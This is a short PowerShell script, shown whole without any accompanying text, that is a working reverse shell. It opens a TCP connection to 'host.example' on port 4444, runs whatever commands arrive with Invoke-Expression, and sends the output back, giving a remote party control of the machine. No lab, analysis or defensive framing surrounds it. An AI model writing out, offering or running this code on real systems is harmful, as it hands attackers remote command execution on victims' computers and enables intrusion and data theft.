$client = New-Object System.Net.Sockets.TCPClient('host.example', 4444)
$stream = $client.GetStream(); [byte[]]$bytes = 0..65535 | % { 0 }
while (($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0) { $data = ([text.encoding]::ASCII).GetString($bytes, 0, $i); $back = (iex $data 2>&1 | Out-String); $out = ([text.encoding]::ASCII).GetBytes($back); $stream.Write($out, 0, $out.Length) }
